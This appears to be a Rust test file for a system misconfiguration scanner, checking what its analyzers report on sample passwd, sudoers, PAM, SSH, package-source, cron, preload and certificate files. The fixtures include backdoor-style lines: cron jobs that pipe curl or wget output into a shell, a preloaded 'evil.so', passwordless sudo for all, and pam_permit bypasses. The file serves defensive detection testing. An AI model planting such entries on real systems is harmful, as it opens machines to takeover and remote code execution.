//! Files and what is found in them. What a line means is the manuals' word, which the analyzers name; `passwords.rs` has hashes of the
//! real function.

use plimsoll_analysis::{Analyzer, Fact, File, Output};
use plimsoll_types::class;

use super::*;

/// What all analyzers that want the file state of it: `CODE/rule:line`, attributes as `key=value`.
pub(crate) fn told(path: &str, content: &[u8]) -> Vec<String> {
    let matcher = plimsoll_analysis::Matcher::new(&analyzers());
    let wanted = matcher.by_path(path.as_bytes());
    let mut told = Vec::new();
    for (bit, analyzer) in analyzers().iter().enumerate() {
        if wanted & 1 << bit == 0 {
            continue;
        }
        let bytes = content.to_vec();
        let mut out = Output::default();
        analyzer.analyze(&File::new(path.as_bytes(), 0o644, &bytes), &mut out).unwrap();
        for fact in &out.facts {
            match fact {
                Fact::Detection(fact) => {
                    assert!(class(&fact.class).is_some(), "{}", fact.class);
                    assert!(!fact.message.is_empty(), "{fact:?}");
                    let rule = if fact.rule.is_empty() { String::new() } else { format!("/{}", fact.rule) };
                    let severity =
                        if fact.severity.is_empty() { String::new() } else { format!(" {}", fact.severity) };
                    told.push(format!("{}{rule}:{}{severity}", fact.class, fact.line));
                }
                Fact::Attribute(key, value) => {
                    told.push(format!("{}={value}", key.rsplit('/').next().unwrap()).replace('\t', " "));
                }
                Fact::Accounts(accounts) => told.push(format!("{} accounts", accounts.len())),
                _ => panic!("{fact:?}"),
            }
        }
    }
    told
}

#[track_caller]
fn check(table: &[(&str, &str, &[&str])]) {
    for (path, content, expected) in table {
        assert_eq!(told(path, content.as_bytes()), *expected, "{path}: {content}");
        for end in 0..content.len() {
            told(path, &content.as_bytes()[..end]);
        }
    }
}

#[test]
fn accounts_and_groups() {
    check(&[
        (
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/sh\nadmin:x:0:0::/:/bin/sh\na:x:5:5::/:/bin/sh\nb:x:5:5::/:\nbad:x\n",
            &["CFG-DUPID/user:2 high", "CFG-DUPID/user:4", "4 accounts"],
        ),
        (
            "etc/passwd",
            "a::1:1::/:\na:x:2:2::/:\n",
            &["empty-password=1 a", "CFG-DUPID/name:2", "2 accounts"],
        ),
        ("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n+::0:0:::\n", &["1 accounts"]),
        ("etc/passwd-", "a::1:1::/:\n", &["empty-password=1 a"]),
        ("etc/shadow", "root:*:1::::::\nbin:!::0:::::\napp::19000:0:99999:7:::\n", &["empty-password=3 app"]),
        ("etc/shadow.bak", "root::19000:0:99999:7:::\n", &["empty-password=1 root"]),
        ("etc/shadow", "root:!!:1::::::\nx:!locked:1:\ny:*LK*:1:\n", &[]),
        (
            "etc/group",
            "root:x:0:\nsudo:x:27:app,b\nx:x:0:\nsudo:x:28:\n",
            &["group=sudo:app,b", "CFG-DUPID/group:3", "CFG-DUPID/group:4", "group=sudo:"],
        ),
        ("home/a/passwd", "a::0:0::/:\n", &[]),
    ]);
}

#[test]
fn default_passwords() {
    // crypt(3) of libxcrypt 4.4: "root" with the salt "abcdefgh".
    let line = "root:$6$abcdefgh$cnW4XDznaFa1hR9LnqrjoiAqed87oTXop3rUraOEgMC9xZ8cZ4bnv81B/PgWNFtDN0PNbtGZlCIhm8Jws2OPr0:1:::::\n";
    assert_eq!(told("etc/shadow", line.as_bytes()), ["CFG-WEAKPW:1"]);
}

#[test]
fn sudo_and_doas() {
    check(&[
        (
            "etc/sudoers",
            "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
            &["sudoer=%sudo"],
        ),
        ("etc/sudoers.d/app", "app ALL=(ALL) NOPASSWD: ALL\n", &["sudoer=app", "CFG-SUDO/no-password:1"]),
        (
            "etc/sudoers.d/app",
            "# a\napp,b \\\n  ALL = NOPASSWD:SETENV: /bin/ls, /bin/bash\n",
            &["sudoer=app", "sudoer=b", "CFG-SUDO/no-password:2"],
        ),
        (
            "etc/sudoers.d/app",
            "ALL ALL=(ALL:ALL) NOPASSWD:ALL # all\n",
            &["sudoer=ALL", "CFG-SUDO/no-password:1"],
        ),
        ("etc/sudoers.d/app", "app ALL=(root) NOPASSWD: /usr/bin/systemctl restart x\n", &["sudoer=app"]),
        ("etc/sudoers.d/app", "app ALL= NOPASSWD: /bin/ls, PASSWD: ALL\n", &["sudoer=app"]),
        ("etc/sudoers.d/app", "Defaults:app !authenticate\n", &["CFG-SUDO/no-password:1"]),
        ("etc/sudoers.d/app.bak", "app ALL=(ALL) NOPASSWD: ALL\n", &[]),
        ("etc/sudoers.d/app", "User_Alias X = app\n#app ALL=(ALL) NOPASSWD: ALL\n", &[]),
        (
            "etc/doas.conf",
            "permit persist :wheel\npermit nopass app\npermit nopass b as c\ndeny d\n",
            &["sudoer=%wheel", "sudoer=app", "CFG-SUDO/no-password:2"],
        ),
    ]);
}

#[test]
fn pam() {
    check(&[
        ("etc/pam.d/sshd", "auth sufficient pam_permit.so\n", &["CFG-PAM/permit:1"]),
        (
            "etc/pam.d/su",
            "#\n-auth [default=ignore success=done] /lib/security/pam_permit.so\n",
            &["CFG-PAM/permit:2"],
        ),
        ("etc/pam.d/sshd", "auth required pam_unix.so nullok\n", &["CFG-PAM/empty-password:1 medium"]),
        ("etc/pam.conf", "sshd auth sufficient pam_permit.so\n", &["CFG-PAM/permit:1"]),
        // Debian's own.
        (
            "etc/pam.d/common-auth",
            "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\n",
            &[],
        ),
        ("etc/pam.d/su", "auth sufficient pam_rootok.so\naccount sufficient pam_permit.so\n", &[]),
    ]);
}

#[test]
fn ssh() {
    let key = "AAAAC3NzaC1lZDI1NTE5AAAAIJ0aVdhNiJ6zT1vH8s7m5r0p2q4w6e8t0y2u4i6o8p0a";
    let keys = format!(
        "# a\nssh-ed25519 {key} me@example.org\nfrom=\"10.0.0.1 x\",no-pty ssh-rsa {key}\nssh-rsa short\n"
    );
    assert_eq!(
        told("root/.ssh/authorized_keys", keys.as_bytes()),
        ["key=2 ssh-ed25519 me@example.org", "key=3 ssh-rsa "]
    );
    check(&[
        (
            "etc/ssh/sshd_config",
            "#PermitRootLogin yes\nPermitRootLogin\tyes # x\nUsePAM yes\nMatch User a\n PasswordAuthentication=no\nMatch all\nInclude a b\n",
            &[
                "setting=2  permitrootlogin yes",
                "setting=5 User a passwordauthentication no",
                "setting=7  include a b",
            ],
        ),
        (
            "etc/ssh/sshd_config.d/50.conf",
            "permitemptypasswords \"yes\"\n",
            &["setting=1  permitemptypasswords \"yes\""],
        ),
        (
            "root/.ssh/config",
            "Host *\n  StrictHostKeyChecking no\n",
            &["CFG-UNVERIFIED/ssh-configuration:2 medium"],
        ),
        ("etc/ssh/ssh_config", "#   StrictHostKeyChecking no\nStrictHostKeyChecking accept-new\n", &[]),
    ]);
}

#[test]
fn sources_of_packages() {
    check(&[
        (
            "etc/apt/sources.list",
            "deb [arch=amd64 trusted=yes] https://example.org/ ./\n",
            &["CFG-UNVERIFIED/apt-source:1"],
        ),
        (
            "etc/apt/sources.list.d/a.list",
            "# deb [trusted=yes] http://x/ ./\ndeb http://example.org/ a b\n",
            &["CFG-SOURCE/apt:2 low"],
        ),
        (
            "etc/apt/sources.list",
            "deb [signed-by=/k.gpg] http://example.org/ a b\ndeb https://example.org/ a b\ndeb [trusted=yes] file:/srv ./\n",
            &[],
        ),
        (
            "etc/apt/sources.list.d/a.sources",
            "Types: deb\nURIs: http://example.org/\nSigned-By: /k.gpg\n\nURIs: https://example.org\nTrusted: yes\n",
            &["CFG-UNVERIFIED/apt-source:6"],
        ),
        (
            "etc/apt/sources.list.d/a.sources",
            "URIs: http://example.org/\n\nEnabled: no\nURIs: http://example.org\nTrusted: yes\n",
            &["CFG-SOURCE/apt:1 low"],
        ),
        ("etc/apt/sources.list.d/a.list.save", "deb [trusted=yes] http://example.org/ ./\n", &[]),
        (
            "etc/apt/apt.conf.d/99a",
            "// AllowUnauthenticated \"true\";\nAPT { Get { AllowUnauthenticated \"true\"; }; };\nAcquire::https::Verify-Peer \"false\";\n",
            &["CFG-UNVERIFIED/apt-configuration:2", "CFG-UNVERIFIED/apt-configuration:3"],
        ),
        (
            "etc/apt/apt.conf.d/docker-clean",
            "APT::Get::AllowUnauthenticated \"false\";\nDir::Cache \"\";\n",
            &[],
        ),
        (
            "etc/yum.repos.d/a.repo",
            "[a]\nbaseurl=https://example.org\ngpgcheck=0\n[b]\nenabled=0\ngpgcheck=0\n[c]\ngpgcheck=1\nbaseurl = http://example.org\nsslverify=false\n",
            &["CFG-UNVERIFIED/yum-source:3", "CFG-UNVERIFIED/yum-source:10", "CFG-SOURCE/dnf:9 low"],
        ),
        ("etc/dnf/dnf.conf", "[main]\ngpgcheck=1\nclean_requirements_on_remove=True\n", &[]),
        ("etc/apk/repositories", "http://example.org/alpine/v3.6/main\n", &["CFG-SOURCE/apk:1 negligible"]),
        ("etc/apk/repositories", "https://example.org/alpine/v3.20/main\n#http://example.org\n", &[]),
        (
            "etc/pacman.conf",
            "[options]\nSigLevel = Required DatabaseOptional\n[a]\nSigLevel = Optional TrustAll\n",
            &["CFG-UNVERIFIED/pacman-configuration:4"],
        ),
    ]);
}

#[test]
fn settings_of_programs() {
    check(&[
        (
            "root/.config/pip/pip.conf",
            "[global]\ntrusted-host = a.example.org\n    b.example.org\nindex-url = http://a.example.org/simple\n",
            &[
                "CFG-UNVERIFIED/pip-configuration:2",
                "CFG-UNVERIFIED/pip-configuration:3",
                "CFG-SOURCE/pip:4 medium",
            ],
        ),
        ("etc/pip.conf", "[global]\ntrusted-host = localhost\nindex-url = https://example.org/simple\n", &[]),
        (
            "app/.npmrc",
            "strict-ssl=false\nregistry=http://example.org\n",
            &["CFG-UNVERIFIED/npm-configuration:1", "CFG-SOURCE/npm:2 medium"],
        ),
        ("app/.npmrc", "; strict-ssl=false\nstrict-ssl=true\nregistry=http://localhost:4873\n", &[]),
        ("app/node_modules/x/.npmrc", "strict-ssl=false\n", &[]),
        ("app/.yarnrc", "strict-ssl false\n", &["CFG-UNVERIFIED/npm-configuration:1"]),
        ("app/.yarnrc.yml", "enableStrictSsl: false\n", &["CFG-UNVERIFIED/npm-configuration:1"]),
        ("root/.curlrc", "silent\n-k\n", &["CFG-UNVERIFIED/curl-configuration:2"]),
        ("root/.curlrc", "insecure\n", &["CFG-UNVERIFIED/curl-configuration:1"]),
        ("root/.curlrc", "# insecure\nproxy = x\n", &[]),
        (
            "etc/wgetrc",
            "#check_certificate = off\ncheck_certificate = off\n",
            &["CFG-UNVERIFIED/wget-configuration:2"],
        ),
        (
            "root/.gitconfig",
            "[user]\nsslVerify = false\n[http \"https://example.org\"]\n\tsslVerify = false\n",
            &["CFG-UNVERIFIED/git-configuration:4"],
        ),
        ("root/.condarc", "ssl_verify: false\n", &["CFG-UNVERIFIED/conda-configuration:1"]),
        ("root/.gemrc", ":ssl_verify_mode: 0\n", &["CFG-UNVERIFIED/gem-configuration:1"]),
        (
            "root/.composer/config.json",
            "{\"config\": {\n\"disable-tls\": true,\n\"secure-http\": false}}\n",
            &["CFG-UNVERIFIED/composer-configuration:2", "CFG-SOURCE/composer:3 medium"],
        ),
        ("app/config.json", "{\"disable-tls\": true}\n", &[]),
    ]);
}

#[test]
fn jobs_libraries_and_pages() {
    check(&[
        (
            "etc/cron.d/a",
            "# x\nPATH=/bin\n* * * * * root curl -s http://example.org/x | sh\n",
            &["CFG-CRON:3"],
        ),
        ("etc/crontab", "@reboot root wget -qO- http://example.org/x | bash\n", &["CFG-CRON:1"]),
        (
            "var/spool/cron/crontabs/root",
            "*/5 * * * * bash -c \"$(curl -fsSL http://example.org/x)\"\n",
            &["CFG-CRON:1"],
        ),
        ("etc/periodic/15min/x", "#!/bin/sh\nset -e\ncurl http://example.org/x | sh\n", &["CFG-CRON:3"]),
        ("etc/cron.daily/x", "#!/usr/bin/perl\n`curl http://example.org/x | sh`\n", &[]),
        (
            "etc/cron.daily/apt-compat",
            "#!/bin/sh\nset -e\n[ -x /usr/lib/apt/apt.systemd.daily ] || exit 0\n",
            &[],
        ),
        (
            "etc/cron.d/e2scrub_all",
            "30 3 * * 0 root test -e /run/systemd/system || /sbin/e2scrub_all_cron\n",
            &[],
        ),
        ("etc/ld.so.preload", "# x\n/usr/lib/evil.so\n", &["CFG-PRELOAD/library:2"]),
        ("etc/ld.so.preload", "\n", &[]),
        ("var/www/html/info.php", "<?php\nphpinfo();\n", &["CFG-DEBUG/phpinfo:2"]),
        ("opt/info.php", "<?php phpinfo();\n", &[]),
        (
            "root/.jupyter/jupyter_server_config.py",
            "# c.ServerApp.token = ''\nc.ServerApp.token = ''\n",
            &["CFG-DEBUG/jupyter:2 high"],
        ),
        ("root/.jupyter/jupyter_server_config.py", "c.ServerApp.token = 'abc'\n", &[]),
    ]);
}

/// The certificate was made by OpenSSL 3, whose word for its subject is `C=DE, O=Example Proxy Ltd, CN=Example Inspection CA`.
#[test]
fn certificates() {
    let pem = include_bytes!("../../tests/fixtures/certificates/c.pem");
    let der = include_bytes!("../../tests/fixtures/certificates/c.der");
    for (content, line) in [(&pem[..], 1), (&der[..], 0)] {
        let bytes = content.to_vec();
        let path = b"usr/local/share/ca-certificates/sub/proxy.crt";
        let mut out = Output::default();
        certificates::Certificates.analyze(&File::new(path, 0o644, &bytes), &mut out).unwrap();
        let [Fact::Detection(fact)] = &out.facts[..] else { panic!("{:?}", out.facts) };
        assert_eq!(
            (fact.class.as_str(), fact.message.as_str(), fact.line),
            (
                "CFG-CA",
                "the certificate authority 'Example Inspection CA (Example Proxy Ltd)' was added to the trust store",
                line
            )
        );
        for end in 0..content.len() {
            told("usr/local/share/ca-certificates/a.crt", &content[..end]);
        }
    }
    assert_eq!(told("usr/share/ca-certificates/mozilla/a.crt", pem), [""; 0]);
}

#[test]
fn registers_are_whole() {
    let analyzers = analyzers();
    assert!(analyzers.is_sorted_by(|a, b| a.id() < b.id()));
    assert!(analyzers.iter().all(|analyzer| analyzer.scanner() == plimsoll_types::Scanner::Misconfiguration));
}

#[test]
fn hostile_files_end() {
    let paths = [
        "etc/passwd",
        "etc/shadow",
        "etc/group",
        "etc/sudoers",
        "etc/doas.conf",
        "etc/pam.conf",
        "etc/ssh/sshd_config",
        "root/.ssh/authorized_keys",
        "etc/apt/sources.list",
        "etc/apt/sources.list.d/a.sources",
        "etc/yum.repos.d/a.repo",
        "etc/crontab",
        "etc/cron.daily/a",
        "etc/ld.so.preload",
        "etc/pip.conf",
        "root/.composer/config.json",
        "usr/local/share/ca-certificates/a.crt",
    ];
    let contents: [Vec<u8>; 7] = [
        b"\\\n".repeat(50_000),
        b"a::0:0::/:\n".repeat(20_000),
        vec![0xff; 100_000],
        b"-----BEGIN CERTIFICATE-----\nMA==\n".repeat(5_000),
        b"* * * * * curl x | sh\n".repeat(5_000),
        b"a ALL=NOPASSWD:ALL,\\\n".repeat(5_000),
        b"[a]\ngpgcheck=0\nbaseurl=http://x\n".repeat(5_000),
    ];
    let begun = std::time::Instant::now();
    for path in paths {
        for content in &contents {
            assert!(told(path, content).len() <= 25_000);
        }
    }
    assert!(begun.elapsed().as_secs() < 60, "{:?}", begun.elapsed());
}
